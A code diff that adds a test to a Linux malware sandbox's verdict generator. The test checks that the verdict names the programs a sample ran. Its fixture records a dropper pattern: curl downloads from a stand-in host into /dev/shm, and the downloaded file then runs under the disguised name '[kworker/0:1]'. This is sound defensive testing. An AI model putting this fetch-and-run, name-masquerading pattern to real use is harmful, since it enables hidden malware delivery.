@@ -54,12 +54,12 @@ import WardenLinux
 @Suite struct SandboxVerdictTests {
     private func report(
         exit: SandboxReport.Exit = .init(code: 0, signal: nil), files: [SandboxReport.FileAccess] = [], signals: [String] = [],
-        denied: [String: Int] = [:]
+        denied: [String: Int] = [:], processes: [SandboxReport.Process] = []
     ) -> SandboxReport {
         SandboxReport(
             id: "s1", sha256: String(repeating: "a", count: 64), argv: ["/sample/x"], uid: 2_147_483_646, exit: exit,
             timedOut: false,
-            durationMs: 4.5, syscalls: [:], denied: denied, network: [], files: files, processes: [], signals: signals,
+            durationMs: 4.5, syscalls: [:], denied: denied, network: [], files: files, processes: processes, signals: signals,
             written: [], stdout: "", stderr: "", stdoutTruncated: false, stderrTruncated: false, setupError: nil, verdict: [])
     }
 
@@ -94,5 +94,28 @@ import WardenLinux
             "Its 2 refused socket call(s) asked for a family other than AF_UNIX, the only one the filter allows (an IPv4 or IPv6 socket, for instance); where it meant to connect is not known.",
         ])
         #expect(!SandboxVerdict.sentences(report(denied: ["mount": 1])).contains { $0.contains("socket") })
+    }
+
+    /// What an exec was told is the dropper's story (`curl URL -o /dev/shm/x`): the verdict names
+    /// each program with its arguments, quoted as a shell needs them, and says when argv[0] lies
+    /// about the program or the vector went on past what was read.
+    @Test func programsAreNamedWithTheirArguments() {
+        let processes: [SandboxReport.Process] = [
+            .init(syscall: "execveat", path: SandboxReport.Process.theSample, pid: 1, arguments: ["/sample/x"]),
+            .init(syscall: "clone", path: nil, pid: 1),
+            .init(syscall: "execve", path: "/usr/bin/curl", pid: 2, arguments: ["curl", "-o", "/dev/shm/a b", "http://h/x"]),
+            .init(syscall: "execve", path: "/dev/shm/a b", pid: 2, arguments: ["[kworker/0:1]"]),
+            .init(syscall: "execve", path: "/bin/echo", pid: 3, arguments: ["/bin/echo", "1"], argumentsComplete: false),
+            .init(syscall: "execve", path: "/bin/true", pid: 4),
+        ]
+        #expect(processes[0].commandLine == "/sample/x")
+        #expect(processes[1].commandLine == nil)
+        #expect(processes[3].commandLine == "'/dev/shm/a b' (argv[0] '[kworker/0:1]')")
+        let sentences = SandboxVerdict.sentences(report(processes: processes))
+        #expect(sentences == [
+            "It exited with code 0 after 4.5 ms.",
+            "It started 5 process or program call(s) (clone, execve).",
+            "It tried to run 4 program(s): /usr/bin/curl -o '/dev/shm/a b' http://h/x; '/dev/shm/a b' (argv[0] '[kworker/0:1]'); /bin/echo 1 …; /bin/true.",
+        ])
     }
 }
